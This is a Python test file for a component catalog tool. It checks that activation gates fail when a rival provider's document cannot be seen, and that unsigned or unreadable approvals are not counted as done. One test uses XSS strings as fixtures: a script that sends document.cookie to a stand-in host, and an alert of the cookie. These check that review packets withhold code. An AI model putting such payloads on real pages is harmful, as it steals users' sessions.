"""The tenth pass over the catalog (stop 64): gates that read other components could not
fail on what they never saw.

``activate`` of a second provider of an exclusive capability passed G13 (and G12) and wrote
while the active provider's document could not be read, or was left out by the catalog's
own ``exclude:``, moved or renamed: the graph the gates read held only the documents read,
and dropped the rest without a word.  Now the gates that read other components (G7, G12,
G13) fail "cannot tell" while a catalog file cannot be read, a log line cannot be read, or
a component the log says is live has no document read.

The review's board said an approval was done on a weaker test than the approval gate's:
an unsigned record where signatures are required, or a record review itself lists as
unreadable, counted; and such an unreadable record's signature was tallied ``unchecked``
(signed, no allowed_signers configured), which it was not.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from harness import switch
from test_catalog_support import CUTTER, MOOD, doc_path, fresh_catalog, run, to_promoted

from risutools.catalog.catalog import Catalog
from risutools.catalog.promote import plan
from risutools.catalog.review import review_catalog

RIVAL = "module.risu.174678332.rival-cutter"


@pytest.fixture
def cat(tmp_path_factory: pytest.TempPathFactory, tmp_path: Path) -> Path:
    c = fresh_catalog(tmp_path_factory, tmp_path)
    to_promoted(c)
    assert switch(CUTTER, "active", "runtime", False, False, str(c)) == 0
    rival = json.loads(doc_path(c, CUTTER).read_text("utf-8"))
    rival["component_id"] = RIVAL
    rival["provenance"]["runtime_status"] = "inactive"
    (c / "rival.json").write_text(json.dumps(rival, ensure_ascii=False), "utf-8")
    return c


def _verdicts(cat: Path, cid: str, to: str = "active", kind: str = "runtime"
              ) -> dict[str, tuple[str, str]]:
    c = Catalog.open(cat)
    p = plan(c, c.resolve(cid), to, kind=kind)
    return {v.gate: (v.verdict, v.reason) for v in p.verdicts}


def test_the_active_provider_seen_fails_exclusive(cat: Path) -> None:
    v = _verdicts(cat, RIVAL)
    assert v["exclusive"][0] == "fail" and CUTTER in v["exclusive"][1]


def _unreadable(cat: Path) -> None:
    p = doc_path(cat, CUTTER)
    p.write_bytes(p.read_bytes() + b"x")


def _excluded(cat: Path) -> None:
    with (cat / ".risutools.yaml").open("a", encoding="utf-8") as f:
        f.write('\nexclude: ["module.risu.174678332.context-cutter*"]\n')


def _renamed(cat: Path) -> None:
    p = doc_path(cat, CUTTER)
    p.rename(p.with_name(p.name + ".txt"))


def _moved_to_a_dot_folder(cat: Path) -> None:
    p = doc_path(cat, CUTTER)
    (cat / ".hidden").mkdir()
    p.rename(cat / ".hidden" / p.name)


@pytest.mark.parametrize("hide", [_unreadable, _excluded, _renamed, _moved_to_a_dot_folder])
def test_an_active_provider_not_seen_fails_exclusive_and_active_conflict(cat: Path,
                                                                         hide: object) -> None:
    hide(cat)  # type: ignore[operator]
    v = _verdicts(cat, RIVAL)
    for gate in ("exclusive", "active-conflict"):
        assert v[gate][0] == "fail", (gate, v[gate])
        assert "cannot tell" in v[gate][1]
    assert switch(RIVAL, "active", "runtime", False, False, str(cat)) == 1
    assert json.loads((cat / "rival.json").read_text("utf-8"))["provenance"][
        "runtime_status"] == "inactive"


def test_a_log_line_that_cannot_be_read_fails_exclusive(cat: Path) -> None:
    assert switch(CUTTER, "inactive", "runtime", False, False, str(cat)) == 0
    with (cat / "transitions.ndjson").open("ab") as f:
        f.write(b'{"component_id": "somebody", "kind": "runtime", "to_runtime": \n')
    v = _verdicts(cat, RIVAL)
    assert v["exclusive"][0] == "fail" and "transitions.ndjson line" in v["exclusive"][1]


def test_when_nothing_is_hidden_the_rival_passes_once_the_provider_is_off(cat: Path) -> None:
    assert switch(CUTTER, "inactive", "runtime", False, False, str(cat)) == 0
    v = _verdicts(cat, RIVAL)
    assert v["exclusive"][0] == "pass" and v["active-conflict"][0] == "pass"


def test_a_hidden_inactive_component_hides_nothing(cat: Path) -> None:
    assert switch(CUTTER, "inactive", "runtime", False, False, str(cat)) == 0
    _renamed(cat)  # (no longer live by the log: nothing the gates need is missing)
    v = _verdicts(cat, RIVAL)
    assert v["exclusive"][0] == "pass", v["exclusive"]


# ---- the board's path to approved, and an unreadable record's signature -----------------

needs_ssh = pytest.mark.skipif(
    shutil.which("ssh-keygen") is None and not os.environ.get("RISUTOOLS_REQUIRE_SSH"),
    reason="ssh-keygen (openssh-client) is not installed")


@pytest.fixture
def signed(tmp_path_factory: pytest.TempPathFactory, tmp_path: Path) -> Path:
    c = fresh_catalog(tmp_path_factory, tmp_path)
    key = tmp_path / "key"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "kim", "-f",
                    str(key)], check=True)
    kind, blob = (tmp_path / "key.pub").read_text().split()[:2]
    (c / ".allowed_signers").write_text(f"kim {kind} {blob}\n")
    cfg = (c / ".risutools.yaml").read_text()
    (c / ".risutools.yaml").write_text(
        cfg + "catalog:\n  allowed_signers: .allowed_signers\n  require_signatures: true\n")
    for args in (("approve", MOOD, "--action", "request_review", "--reviewer", "kim",
                  "--sign", str(key)), ("promote", MOOD, "--to", "pending_human_review")):
        r = run(*args, "--catalog", str(c), cwd=c)
        assert r.returncode == 0, r.stdout + r.stderr
    return c


def _path(cat: Path, cid: str) -> dict[str, tuple[str, str]]:
    board = review_catalog(Catalog.open(cat)).data["board"]
    row = next(b for b in board if b["component_id"] == cid)
    return {p["part"]: (p["state"], p["detail"]) for p in row["path"]}


@needs_ssh
def test_an_unsigned_approval_where_signatures_are_required_is_not_done(signed: Path) -> None:
    r = run("approve", MOOD, "--action", "approve", "--reviewer", "kim", "--catalog",
            str(signed), cwd=signed)  # (unsigned)
    assert r.returncode == 0, r.stderr
    assert _path(signed, MOOD)["approvals"][0] == "missing"


@needs_ssh
def test_an_unreadable_record_is_neither_done_nor_unchecked(signed: Path) -> None:
    c = Catalog.open(signed)
    base = c.resolve(MOOD).base_sha256
    (signed / "approvals" / f"{MOOD}--approve--x.yaml").write_text(
        f"component_id: {MOOD}\ncomponent_version: 1.0.0\naction: approve\n"
        'reviewer: "kim\\e"\nat: \'2026-12-07T00:00:00+00:00\'\n'
        f"base_sha256: {base}\nnote: \'\'\nread: {{how: none}}\n"
        'signature: "-----BEGIN SSH SIGNATURE-----\\nAAAA\\n-----END SSH SIGNATURE-----\\n"\n',
        "utf-8")
    data = review_catalog(Catalog.open(signed)).data
    rows = [a for a in data["approvals"] if a["file"].endswith("--approve--x.yaml")]
    assert rows and rows[0]["state"] == "unreadable"
    assert rows[0]["signature"] == "not_read"
    assert _path(signed, MOOD)["approvals"][0] == "missing"


# ---- a packet withholds a key that looks like code, as it withholds a value ---------------

@pytest.mark.parametrize("long", [False, True])
def test_a_code_key_is_withheld_from_the_packet(tmp_path_factory: pytest.TempPathFactory,
                                                tmp_path: Path, long: bool) -> None:
    from risutools.catalog.packet import WITHHELD, WITHHELD_KEY, build_packet

    c = fresh_catalog(tmp_path_factory, tmp_path)
    p = doc_path(c, MOOD)
    doc = json.loads(p.read_text("utf-8"))
    code = "<script>fetch('https://x/?'+document.cookie)</script>"
    if long:  # (past a pointer's shown length: the finding names the object holding it)
        code = "<script>" + "a" * 5000 + "document.cookie</script>"
    doc["payload"]["state_effects"] = {code: "remembers the page", "plain": "a note",
                                       "other": "<script>alert(document.cookie)</script>"}
    p.write_text(json.dumps(doc, ensure_ascii=False, indent=1), "utf-8")
    cat = Catalog.open(c)
    pk = build_packet(cat, cat.resolve(MOOD), "light")
    assert "document.cookie" not in json.dumps(pk, ensure_ascii=False)
    effects = pk["document"]["payload"]["state_effects"]
    if long:
        assert effects == WITHHELD
    else:
        assert effects[WITHHELD_KEY] == WITHHELD and effects["plain"] == "a note"
        assert effects["other"] == WITHHELD
